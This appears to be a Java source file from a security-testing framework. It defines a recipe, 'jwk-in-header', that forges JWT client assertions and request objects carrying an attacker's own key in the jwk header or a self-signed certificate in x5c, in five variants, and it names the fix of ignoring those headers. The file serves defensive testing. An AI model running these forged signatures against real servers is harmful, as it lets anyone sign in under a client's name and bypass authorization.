package dev.countersign.attacker.recipe.jose;

import dev.countersign.attacker.deployment.TestCertificate;
import dev.countersign.attacker.forge.Certificates;
import dev.countersign.attacker.play.About;
import dev.countersign.attacker.play.Attacker;
import dev.countersign.attacker.play.Goal;
import dev.countersign.attacker.play.Lab;
import dev.countersign.attacker.play.Need;
import dev.countersign.attacker.play.Play;
import dev.countersign.attacker.play.Recipe;
import dev.countersign.protocol.jose.SigningKey;
import dev.countersign.protocol.json.JsonObject;
import java.io.IOException;
import java.util.List;

/** A key that the message brings along instead of the registered one. */
final class KeyInHeader implements Recipe {
  private static final String RULE = "CA-3";

  @Override
  public About about() {
    return About.of("J-05", "jwk-in-header")
        .also("ATT-34")
        .by(Attacker.A1)
        .endangers(Goal.AUTHORIZATION, Goal.SESSION_INTEGRITY, Goal.NON_REPUDIATION)
        .needs(Need.ASSERTION)
        .stoppedBy(RULE, "signatures are checked by registered keys alone")
        .means("Anybody can sign in the client's name, by a key of their own.")
        .change("Ignore jwk and x5c in the header of assertions and request objects.");
  }

  private static List<Variant> variants(Lab lab) {
    SigningKey own = lab.newKey();
    JsonObject jwk = own.publicJwk().requiredMembers();
    TestCertificate certificate = Certificates.selfSigned("CN=client", lab);
    String der = Certificates.base64(certificate.own());
    SigningKey certified = Certificates.signingKey(certificate);
    return List.of(
        Variant.of(
            "the attacker's key in jwk, under the client's kid",
            jwt -> jwt.header("jwk", jwk).signedBy(lab.jose(), own)),
        Variant.of(
            "the attacker's key in jwk, without kid",
            jwt -> jwt.withoutHeader("kid").header("jwk", jwk).signedBy(lab.jose(), own)),
        Variant.of(
            "the attacker's key in jwk, under its own kid",
            jwt ->
                jwt.header("jwk", own.publicJwk().toJson())
                    .header("kid", own.kid())
                    .signedBy(lab.jose(), own)),
        Variant.of(
            "a self-signed certificate in x5c, under the client's kid",
            jwt -> jwt.header("x5c", List.of(der)).signedBy(lab.jose(), certified)),
        Variant.of(
            "a self-signed certificate in x5c, without kid",
            jwt ->
                jwt.withoutHeader("kid")
                    .header("x5c", List.of(der))
                    .signedBy(lab.jose(), certified)));
  }

  @Override
  public void play(Play play, Lab lab) throws IOException {
    Doors doors = new Doors(play, lab, RULE);
    doors.assertions(lab.asserting(), variants(lab));
    if (doors.takesObjects()) {
      doors.objects(lab.signingRequests(), variants(lab));
    }
  }
}
